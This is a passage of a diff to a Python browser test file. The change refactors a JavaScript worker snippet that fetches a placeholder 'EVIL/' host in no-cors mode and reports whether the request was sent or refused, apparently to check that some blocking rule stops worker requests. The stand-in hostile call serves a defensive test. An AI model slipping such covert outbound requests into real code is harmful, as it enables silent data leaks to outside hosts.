@@ -216,7 +216,7 @@ async def test_rules_end_with_the_last_of_their_tabs(browser: Browser, web: Web)
 
 ASKING_WORKER = """const ask = (who) => fetch("EVIL/" + who, {mode: "no-cors"}).then(() => "sent", () => "refused");
 onmessage = (told) => ask("service").then((how) => told.source.postMessage(how));
-onconnect = (told) => { told.ports[0].onmessage = () => ask("shared").then((how) => told.ports[0].postMessage(how)); };"""
+onconnect = ({ports: [port]}) => { port.onmessage = () => ask("shared").then((how) => port.postMessage(how)); };"""
 ASKS_WORKERS = """<script>
 const shared = new SharedWorker("/asks.js").port;
 const answer = (of) => new Promise((done) => { of.onmessage = (told) => done(told.data); });
